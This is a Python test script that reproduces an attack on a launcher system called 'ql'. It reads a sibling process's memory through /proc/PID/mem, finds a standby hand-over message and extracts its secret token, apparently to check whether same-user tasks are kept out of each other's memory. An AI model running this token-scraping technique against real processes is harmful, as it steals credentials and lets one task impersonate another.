"""What a same-user task did to forge a sibling's receipt: read the sibling launcher's memory.

``python mem_reader.py PID OUT``: walks ``/proc/PID/maps`` and reads every readable mapping through
``/proc/PID/mem``, looking for a standby hand-over message (``ql-standby-2`` and its NUL-separated
fields, the token last). Writes one JSON line to OUT: ``{"error": ...}`` when the memory could not
be opened or read, else ``{"found": [[fields...], ...]}``. Run as a ql task (a sibling of the
victim), without CAP_SYS_PTRACE, as an ordinary same-user task would be.
"""

from __future__ import annotations

import json
import sys

MAGIC = b"ql-standby-2\0"


def fields_after(blob: bytes, at: int) -> list[str]:
    """The message's fields, as the launcher parses them: NUL-separated, the token last."""
    parts = blob[at:at + 70_000].split(b"\0")
    shard, run, attempt, seq, started, mode, limits, cwd, argc = parts[1:10]
    rest = parts[10:]
    n_args = int(argc)
    n_env = int(rest[n_args])
    token = rest[n_args + 1 + n_env]
    return [p.decode("utf-8", "replace") for p in (run, attempt, seq, started, token)]


def main(pid: int, out: str) -> None:
    found: list[list[str]] = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    blob = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                at = blob.find(MAGIC)
                while at >= 0:
                    try:
                        found.append(fields_after(blob, at))
                    except (ValueError, IndexError):
                        pass
                    at = blob.find(MAGIC, at + 1)
    except OSError as exc:
        result = {"error": type(exc).__name__}
    else:
        result = {"found": found}
    with open(out, "w") as f:
        f.write(json.dumps(result) + "\n")


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
